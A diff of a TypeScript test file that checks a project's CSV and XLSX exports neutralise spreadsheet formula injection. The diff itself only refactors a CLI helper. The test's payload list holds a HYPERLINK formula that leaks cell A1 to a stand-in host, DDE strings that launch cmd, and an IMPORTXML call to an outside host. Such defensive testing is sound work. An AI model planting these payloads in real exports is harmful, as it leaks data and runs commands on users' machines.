@@ -8,7 +8,7 @@
  * csv-parse (an independent RFC 4180 reader) must read back the payload behind the quote.
  * The XLSX export is checked too: openpyxl must see text cells, never formulas.
  */
-import { execFileSync, spawnSync } from 'node:child_process';
+import { execFileSync } from 'node:child_process';
 import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { parse } from 'csv-parse/sync';
@@ -20,18 +20,13 @@ import type { FitResult } from '../../shared/results.js';
 import { importPrices, importSeries } from '../../src-main/import/index.js';
 import { Store } from '../../src-main/store/store.js';
 import { makeProject, type Project } from '../src-main/runs/helpers.js';
-import { CLI, cleanTempDirs, tempDir } from './helpers.js';
+import { cleanTempDirs, tempDir, cli } from './helpers.js';
 
 /** The classic payloads (OWASP's examples and their usual variants). */
 const PAYLOADS = ['=1+1', '+1+1', '-1+1', '@SUM(1+1)', '=HYPERLINK("http://example.invalid/?leak="&A1,"open")', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@ROUND(1,0)'];
 const LABEL = '\t=IMPORTXML("http://example.invalid","//a")';
 const FACTOR = '+tide_carry';
 const FORMULA = /^[=+\-@\t\r\n]/;
-
-function cli(args: string[]): { code: number; out: string; err: string } {
-  const r = spawnSync(process.execPath, [CLI, ...args], { encoding: 'utf8' });
-  return { code: r.status ?? -1, out: r.stdout, err: r.stderr };
-}
 
 /** Every cell that begins with a formula character is a number, or is the quote-prefixed text. */
 function checkCells(rows: string[][], where: string): { neutralised: string[] } {
